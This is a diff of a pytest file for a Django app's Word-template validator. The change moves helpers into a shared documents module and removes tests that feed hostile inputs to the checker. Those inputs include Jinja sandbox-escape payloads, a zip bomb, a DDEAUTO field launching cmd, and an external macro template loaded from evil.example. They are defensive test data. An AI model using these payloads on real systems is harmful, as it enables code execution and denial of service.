@@ -10,60 +10,25 @@ import zipfile
 from typing import Any
 
 import pytest
-from docx import Document
 
 from minqing.core import clock
-from minqing.core.errors import Invalid, Refused
+from minqing.core.errors import Refused
+from minqing.documents.checking import check_template
+from minqing.documents.models import Template
+from minqing.documents.services import store_template
 from minqing.journal.models import Event
-from minqing.matters import services
 from minqing.matters.enums import PartState, State
-from minqing.matters.models import Confirmation, Matter, Part, Reporter, SheetTemplate, Step
+from minqing.matters.models import Confirmation, Matter, Part, Reporter, Step
 from minqing.matters.printing import slips_of
-from minqing.matters.sheets import sheet_data
-from minqing.matters.sheets.checking import check_template
-from minqing.matters.sheets.data import FIELDS, LISTS, sample
-from minqing.matters.sheets.standard import standard_template
-from minqing.matters.sheets.word import filled
+from minqing.matters.sheets import HANDLING, sheet_data
 from minqing.matters.tickets import follow_code_of, spaced, ticket_of
 from minqing.org.queries import system_actor
 from minqing.privacy.access import acting_as
 from tests.cast import Cast, at, category
+from tests.documents.word_files import template, text_of
 
 pytestmark = pytest.mark.django_db
 HOSTILE = "{{ 7*7 }} {% for x in y %} <w:p><w:r/></w:p> &lt;b> \x07\x0c\x13 DDEAUTO c:\\\\cmd\u202egpj ]]>"
-
-
-def template(*paragraphs: str) -> bytes:
-    document = Document()
-    for text in paragraphs:
-        document.add_paragraph(text)
-    out = io.BytesIO()
-    document.save(out)
-    return out.getvalue()
-
-
-def with_part(content: bytes, name: str, data: bytes) -> bytes:
-    """The same archive with one more part, or another one in place of that."""
-    out = io.BytesIO()
-    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
-        for part in old.infolist():
-            if part.filename != name:
-                new.writestr(part, old.read(part))
-        new.writestr(name, data)
-    return out.getvalue()
-
-
-def changed(content: bytes, name: str, old: bytes, new: bytes) -> bytes:
-    with zipfile.ZipFile(io.BytesIO(content)) as archive:
-        data = archive.read(name)
-    assert old in data
-    return with_part(content, name, data.replace(old, new, 1))
-
-
-def text_of(docx: bytes) -> str:
-    document = Document(io.BytesIO(docx))
-    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
-    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])
 
 
 def told_by(pdf: bytes) -> str:
@@ -182,9 +147,9 @@ def test_every_field_of_the_guide_is_there_and_the_example_has_the_same(cast: Ca
     matter = lived(cast)
     with acting_as(system_actor("test")):
         given = sheet_data(Matter.objects.select_related("area", "category", "lead_unit").get(), named=True)
-    assert set(given) == {*FIELDS, *LISTS} == set(sample())
+    assert set(given) == {*HANDLING.fields, *HANDLING.lists} == set(HANDLING.sample())
     assert given["number"] == matter.number
-    for name, inner in LISTS.items():
+    for name, inner in HANDLING.lists.items():
         assert all(set(row) == set(inner) for row in given[name])
 
 
@@ -206,115 +171,22 @@ def test_what_people_write_is_inert_in_word(cast: Cast) -> None:
 
 def test_the_sheet_of_the_software_passes_the_check_in_every_language() -> None:
     for language in ("zh-hans", "en"):
-        check_template(standard_template(language))
+        check_template(HANDLING.standard(language), HANDLING.sample())
 
 
 def test_a_countys_own_template_is_used_and_can_be_taken_back(cast: Cast) -> None:
     matter = lived(cast)
     by = system_actor("test")
     own = template("本县办理单 {{ number }}", "{% for step in steps %}{{ loop.index }} {{ step.text }}{% endfor %}")
-    services.store_sheet_template(content=own, by=by)
-    services.store_sheet_template(content=own, by=by)
-    assert SheetTemplate.objects.count() == 1
+    store_template(sheet=HANDLING, content=own, by=by)
+    store_template(sheet=HANDLING, content=own, by=by)
+    assert Template.objects.count() == 1
     assert f"本县办理单 {matter.number}" in text_of(sheet(cast, "handler", matter).content)
-    services.store_sheet_template(content=b"", by=by)
+    store_template(sheet=HANDLING, content=b"", by=by)
     assert "本县办理单" not in text_of(sheet(cast, "handler", matter).content)
-    assert Event.objects.filter(type="matters.sheet.replaced").count() == 2
+    assert Event.objects.filter(type="documents.template.replaced").count() == 2
 
 
 def test_only_the_operator_changes_the_sheet(cast: Cast) -> None:
     with pytest.raises(Refused):
-        services.store_sheet_template(content=template("{{ number }}"), by=cast.actor("clerk"))
-
-
-@pytest.mark.fault(38)
-@pytest.mark.parametrize(
-    "tag",
-    [
-        "{{ ''.__class__ }}",
-        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
-        "{{ number|attr('__class__') }}",
-        "{{ steps.append(1) }}",
-        "{{ number.format(number) }}",
-        "{{ cycler.__init__.__globals__ }}",
-        "{{ self._TemplateReference__context }}",
-        "{{ 'a' * 1000000000 }}",
-        "{{ 9 ** 999999999 }}",
-        "{% set x = 1 %}",
-        "{% include 'x' %}",
-        "{% for a in steps %}{% for b in steps %}{% for c in steps %}x{% endfor %}{% endfor %}{% endfor %}",
-        "{{ range(10) }}",
-        "{{ number|safe }}",
-        "{% autoescape false %}{{ text }}{% endautoescape %}",
-    ],
-)
-def test_a_template_runs_no_code(tag: str) -> None:
-    with pytest.raises(Invalid) as refused:
-        check_template(template("{{ number }}", tag))
-    assert refused.value.code in {"template_code", "template_field", "template_syntax"}
-    assert str(refused.value.sentence)
-
-
-@pytest.mark.parametrize(
-    ("tag", "code"),
-    [("{{ nummer }}", "template_field"), ("{{ step.nothing }}", "template_field"), ("{{ number", "template_syntax"),
-     ("{% if x %}", "template_syntax"), ("{% for step in steps %}{{ step.nothing }}{% endfor %}", "template_field")],
-)  # fmt: skip
-def test_a_mistake_in_a_template_is_told_at_the_upload(tag: str, code: str) -> None:
-    with pytest.raises(Invalid) as refused:
-        check_template(template(tag))
-    assert refused.value.code == code
-
-
-@pytest.mark.fault(39)
-def test_a_bomb_is_refused_by_what_it_declares() -> None:
-    bomb = with_part(template("{{ number }}"), "word/media/image1.xml", b"\0" * 60_000_000)
-    assert len(bomb) < 200_000
-    with pytest.raises(Invalid) as refused:
-        check_template(bomb)
-    assert refused.value.code == "template_bomb"
-
-
-FIELD_CODE = b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText></w:r></w:p>'
-FIELD_TEXT = b'<w:p><w:fldSimple w:instr="HYPERLINK {{ text }}"/></w:p>'
-UNREADABLE = "template_unreadable"
-LOADS = (
-    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-    b'attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
-)
-
-
-@pytest.mark.parametrize(
-    ("content", "code"),
-    [
-        (b"", "template_unreadable"),
-        (b"PK\x03\x04 not really", "template_unreadable"),
-        (b"x" * 5_000_001, "template_large"),
-        (with_part(template("a"), "word/vbaProject.bin", b"x"), "template_macro"),
-        (with_part(template("a"), "word/embeddings/oleObject1.bin", b"x"), "template_macro"),
-        (changed(template("a"), "[Content_Types].xml", b"document.main", b"macroEnabled"), "template_macro"),
-        (changed(template("a"), "word/document.xml", b"<w:body>", b"<w:body>" + FIELD_CODE), "template_codes"),
-        (changed(template("a"), "word/document.xml", b"<w:body>", b"<w:body>" + FIELD_TEXT), "template_codes"),
-        (changed(template("a"), "word/_rels/document.xml.rels", b"</Relationships>", LOADS), "template_outside"),
-        (changed(template("a"), "word/document.xml", b"<w:document", b"<!DOCTYPE x><w:document"), UNREADABLE),
-        (with_part(template("a"), "word/document.xml", b"<broken"), "template_unreadable"),
-    ],
-    ids=lambda one: one if isinstance(one, str) else "",
-)  # fmt: skip
-def test_a_file_that_is_no_harmless_template_is_refused_with_a_sentence(content: bytes, code: str) -> None:
-    with pytest.raises(Invalid) as refused:
-        check_template(content)
-    assert refused.value.code == code
-
-
-@pytest.mark.fault(112)
-def test_rare_characters_are_told_in_the_file_itself_whose_fonts_nobody_knows() -> None:
-    plain = filled(template("{{ title }}"), {**sample(), "title": "张三家漏水"})
-    told = filled(template("{{ title }}"), {**sample(), "title": "𠮷家漏水"})
-    assert "U+" not in text_of(plain)
-    assert "𠮷 U+20BB7" in text_of(told)
-
-
-def test_filled_values_never_become_tags() -> None:
-    fields = {**sample(), "title": "{{ number }}", "text": "{% if %}"}
-    assert "{{ number }}" in text_of(filled(template("{{ title }} {{ text }}"), fields))
+        store_template(sheet=HANDLING, content=template("{{ number }}"), by=cast.actor("clerk"))
